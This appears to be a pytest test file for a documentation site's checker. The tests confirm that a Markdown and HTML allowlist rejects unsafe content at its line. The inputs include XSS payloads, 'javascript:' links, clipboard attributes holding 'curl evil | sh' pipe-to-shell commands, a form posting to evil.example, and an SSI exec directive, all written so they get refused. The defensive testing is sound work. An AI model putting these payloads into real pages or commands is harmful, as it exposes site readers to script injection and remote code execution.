"""The allowlist, attack by attack: each kind of issue 21 refused at its source line."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from calico_kb.checks import allowlist
from calico_kb.checks.allowed_markup import allows, element_findings
from calico_kb.checks.markdown_bodies import bound_problems
from calico_kb.checks.static_files import static_file_problems
from calico_kb.problems import Problem
from conftest import check_output

ATTACKS = [
    # Parser differences: raw-text elements are refused whatever they contain.
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "1:1", "<noscript>"),
    ("<xmp><img src=x onerror=alert(1)></xmp>", "1:1", "<xmp>"),
    # What the theme reads.
    ('<div id="__config">{}</div>', "1:10", 'the id "__config"'),
    ("## __search", "1:4", 'the id "__search"'),
    ('```python {data-copy="curl x | sudo sh"}\nls\n```', "1:12", "'data-copy'"),
    ('<p data-clipboard-text="curl evil | sh">hi</p>', "1:4", "'data-clipboard-text'"),
    ('<span data-md-component="search">x</span>', "1:7", "'data-md-component'"),
    ('<p class="md-content">x</p>', "1:11", "the class 'md-content'"),
    # Forms, backslashed and off-site addresses.
    ('<form><button formaction="https://evil.example/">go</button></form>', "1:1", "<form>"),
    ("[x](\\\\evil.example\\path)", "1:6", "a backslash"),
    ("[x](< javascript:alert(1)>)", "1:7", "the scheme 'javascript'"),
    ("![x](https://tracker.example/p.png)", "1:6", "the scheme 'https'"),
]


@pytest.mark.parametrize(("markdown", "where", "what"), ATTACKS, ids=[a[2] for a in ATTACKS])
def test_each_attack_is_refused_at_its_line(project, capsys, markdown, where, what):
    (project / "docs/attack.md").write_text(markdown + "\n", encoding="utf-8")
    code, lines = check_output(project, capsys)
    assert code == 1
    found = [line for line in lines if line.startswith("docs/attack.md:")]
    assert found, lines
    assert found[0].startswith(f"docs/attack.md:{where}: ") and what in found[0], found


def test_what_markdown_writes_passes():
    assert element_findings("a", {"class": "headerlink", "href": "#x", "title": "Permanent link"}) == []
    assert element_findings("div", {"class": "admonition note"}) == []
    assert element_findings("span", {"class": "l-Scalar-Plain"}) == []
    assert element_findings("td", {"style": "text-align: center;"}) == []
    assert element_findings("a", {"href": "https://www.tigera.io/", "title": "Tigera"}) == []


def test_what_markdown_and_the_templates_write_passes_at_a_glance():
    # The build's check of a page's content area passes these without judging them in
    # full (`allows`); whatever it does not pass is judged in full.
    assert allows("a", {"class": "headerlink", "href": "#x", "title": "Permanent link"})
    assert allows("h2", {"id": "related-4", "data-search-exclude": ""}, with_templates=True)
    assert allows("a", {"class": "kb-chip", "href": "../../topics/ebpf/"}, with_templates=True)
    assert allows("p", {})
    assert not allows("a", {"href": "https://www.tigera.io/"})  # a colon: judged in full
    assert not allows("h2", {"data-search-exclude": ""})  # the templates' attribute, not a contributor's


_NAMES = sorted({name for names in allowlist.ELEMENTS.values() for name in names} | allowlist.GLOBAL_ATTRIBUTES)
_CLASSES = ["", "note", "headerlink kb-chip", "md-content", "kb-card", "language-py", "l-Scalar-Plain", "zz", "a zz"]
_NAME_VALUES = ["", "x", "__config", "kb-explorer", "-x", "a b", "related-4"]
_ADDRESSES = ["", "#h", "../a/", "/a", "//h/x", "https://h/", "javascript:x", "java\tscript:x", "\\\\h\\p", " x"]
_ADDRESSES += ["x\x00", "\x7f", "data:x", "?a=b&c", "a b"]
_STYLES = ["", "text-align: center;", "color: red"]
_OTHER_NAMES = [*_NAMES, "data-search-exclude", "onclick", "viewBox", "data-x", "rel"]
_OTHER_VALUES = ["", "x", "1", "javascript:x"]
_ATTRIBUTE = st.one_of(
    st.tuples(st.just("class"), st.sampled_from(_CLASSES)),
    st.tuples(st.sampled_from(["id", "name"]), st.sampled_from(_NAME_VALUES)),
    st.tuples(st.sampled_from(["href", "src", "xlink:href"]), st.sampled_from(_ADDRESSES)),
    st.tuples(st.just("style"), st.sampled_from(_STYLES)),
    st.tuples(st.sampled_from(_OTHER_NAMES), st.sampled_from(_OTHER_VALUES)),
)


_TAGS = sorted({*allowlist.ELEMENTS, *allowlist.TEMPLATE_ADDITIONS, "script", "iframe", "x"})


def test_each_attribute_passed_at_a_glance_the_allowlist_keeps():
    names = {name: _OTHER_VALUES for name in _OTHER_NAMES}
    names.update({"class": _CLASSES, "id": _NAME_VALUES, "name": _NAME_VALUES, "style": _STYLES})
    names.update({name: _ADDRESSES for name in ("href", "src", "xlink:href")})
    for tag in _TAGS:
        for with_templates in (False, True):
            for name, values in names.items():
                for value in values:
                    if allows(tag, {name: value}, with_templates):
                        assert element_findings(tag, {name: value}, with_templates=with_templates) == [], (tag, name)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.sampled_from(_TAGS), st.lists(_ATTRIBUTE, max_size=4).map(dict), st.booleans())
def test_what_passes_at_a_glance_the_allowlist_keeps(tag, attributes, with_templates):
    if allows(tag, attributes, with_templates):
        assert element_findings(tag, attributes, with_templates=with_templates) == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("#\n" * 400, "400 headings, over the limit of 300"),
        ("[" * 400 + "\n", "a paragraph with more than 300 '['"),
        ("".join("    " * i + "- x\n" for i in range(40)), "indented more than 64 columns"),
        (">" * 40 + " x\n", "quotes nested more than 16 deep"),
        ("x" * 20_000 + "\n", "a line of 20,000 characters, over the limit of 10,000"),
    ],
)
def test_bodies_are_bounded_before_python_markdown(text, message):
    assert [p.message for p in bound_problems(text, "docs/x.md", 1)] == [message]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("page.shtml", b"<!--#exec cmd='id' -->", 'files ending in ".shtml" are not allowed under docs/'),
        ("style.xsl", b"<xsl:stylesheet/>", 'files ending in ".xsl" are not allowed under docs/'),
        ("x.svgz", b"\x1f\x8b", 'files ending in ".svgz" are not allowed under docs/'),
        ("assets/javascripts/bundle.js", b"alert(1)", "the theme or the build writes 'assets/javascripts/'"),
        ("sitemap.xml", b"<urlset/>", "the theme or the build writes 'sitemap.xml'"),
        ("assets/x.js", b"alert(1)", '"assets/x.js" is a script'),
        ("logo.png", b"<html><script>alert(1)</script>", "the file's content is not an image"),
        ("page.html", b"<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<noscript>"),
    ],
)
def test_static_files_by_allowlist(tmp_path, name, content, message):
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_bytes(content)
    [problem] = static_file_problems(tmp_path, [name])
    assert problem.path == f"docs/{name}" and message in problem.message


def test_messages_escape_control_characters_and_line_breaks():
    problem = Problem("docs/a\nb,c.md", 1, 2, 'value "\x1b[2J" bad\n::error::x', "h\u202e")
    assert str(problem) == 'docs/a\\nb,c.md:1:2: value "\\x1b[2J" bad\\n::error::x (hint: h\\u202e)'
    assert (
        problem.as_github_annotation()
        == '::error file=docs/a\\nb%2Cc.md,line=1,col=2::value "\\x1b[2J" bad\\n::error::x (hint: h\\u202e)'
    )


def test_values_outputs_cannot_carry_are_refused_at_their_line(project, capsys):
    (project / "data/topics/weird.yaml").write_text('name: "\\uFFFE Weird"\ndescription: x\n', encoding="utf-8")
    (project / "data/topics/blank.yaml").write_text('name: "\\u200b "\ndescription: x\n', encoding="utf-8")
    (project / "data/topics/long.yaml").write_text("name: " + "A" * 120_000 + "\ndescription: x\n", encoding="utf-8")
    (project / "docs/boost.md").write_text(
        "---\ntitle: Boost\nsearch:\n  boost: .inf\n---\n\n# Boost\n", encoding="utf-8"
    )
    code, lines = check_output(project, capsys)
    assert code == 1
    assert lines[:4] == [
        'data/topics/blank.yaml:1:7: name: "\\u200b " shows nothing (hint: write a title readers can see)',
        "data/topics/long.yaml:1:7: name: 120,000 characters, over the limit of 300 (hint: shorten it)",
        "data/topics/weird.yaml:1:7: name: the character U+FFFE cannot be carried by the site's feeds and sitemap "
        "(XML) (hint: remove it (YAML escapes such as \\u or \\x write it))",
        "docs/boost.md:4:10: search.boost: inf is not a number JSON can carry (hint: write a finite number)",
    ]
